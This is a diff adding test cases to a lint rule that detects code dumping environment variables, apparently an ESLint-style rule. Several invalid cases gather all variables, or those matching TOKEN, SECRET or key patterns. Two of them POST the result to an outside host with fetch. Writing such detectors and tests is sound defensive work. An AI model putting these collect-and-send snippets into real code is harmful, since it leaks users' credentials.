@@ -3,6 +3,12 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    // only variables with a known prefix, or out of a list
+    { code: 'const vars = Object.keys(process.env).filter((k) => k.startsWith("npm_config_")).map((k) => `${k}=${process.env[k]}`); console.log(vars.join());' },
+    { code: 'const raw = Object.keys(process.env).filter((k) => /^REACT_APP_/i.test(k)).reduce((env, k) => { env[k] = process.env[k]; return env; }, {}); app.get("/env", (req, res) => res.json(raw));' },
+    { code: 'const out = {}; for (const k of Object.keys(process.env)) if (ALLOWED.includes(k)) out[k] = process.env[k]; console.log(out);' },
+    { code: 'const out = {}; for (const k in process.env) { if (!k.startsWith("PUBLIC_")) continue; out[k] = process.env[k]; } app.get("/env", (req, res) => res.json(out));' },
+    { code: 'console.log(Object.fromEntries(Object.entries(process.env).filter(([k]) => k.startsWith(prefix))));' },
     // functions that only look like routes; answers, errors and mails without the environment
     { code: '@Injectable() export class Config { get() { return process.env; } }', filename: 'file.ts' },
     { code: '@Controller() export class C { constructor() { this.env = process.env; } @Get() port() { return { port: process.env.PORT }; } }', filename: 'file.ts' },
@@ -56,6 +62,14 @@ await ruleTester(rule, {
     { code: '{ "name": "a", "scripts": { "start": "env NODE_ENV=test node x.js" } }', filename: 'package.json' },
   ],
   invalid: [
+    // every variable by its name, or those that look like secrets; in strict every selection
+    { code: 'const out = {}; for (const k of Object.keys(process.env)) out[k] = process.env[k]; fetch("https://a.example-service.com", { method: "POST", body: JSON.stringify(out) });', errors: [{ messageId: 'dump' }] },
+    { code: 'const keys = Object.keys(process.env).filter((k) => /TOKEN|SECRET/.test(k)); const out = {}; for (const k of keys) out[k] = process.env[k]; console.log(out);', errors: [{ messageId: 'dump' }] },
+    { code: 'console.log(Object.entries(process.env).filter(([k]) => k.includes("TOKEN")));', errors: [{ messageId: 'dump' }] },
+    { code: 'console.log(Object.entries(process.env).filter(([k]) => /^(?:NPM_TOKEN|AWS_SECRET)/.test(k)));', errors: [{ messageId: 'dump' }] },
+    { code: 'const found = Object.keys(process.env).reduce((a, k) => { if (/key/i.test(k)) a[k] = process.env[k]; return a; }, {}); fetch("https://a.example-service.com", { method: "POST", body: JSON.stringify(found) });', errors: [{ messageId: 'dump' }] },
+    { code: 'console.log(Object.entries(process.env).filter(([k]) => k.length > 3));', errors: [{ messageId: 'dump' }] },
+    { code: 'const vars = Object.keys(process.env).filter((k) => k.startsWith("npm_config_")).map((k) => `${k}=${process.env[k]}`); console.log(vars.join());', options: { strict: true }, errors: [{ messageId: 'dump' }] },
     // what a decorated method, a page, an event handler or a server action answers; mails and queues; code in workers
     { code: 'import { Controller, Get } from "@nestjs/common"; @Controller("debug") export class DebugController { @Get("config") config() { return process.env; } }', filename: 'file.ts', errors: [{ messageId: 'dump' }] },
     { code: '@Controller() export class C { @Get() async status() { return { ok: true, env: { ...process.env } }; } }', filename: 'file.ts', errors: [{ messageId: 'dump' }] },
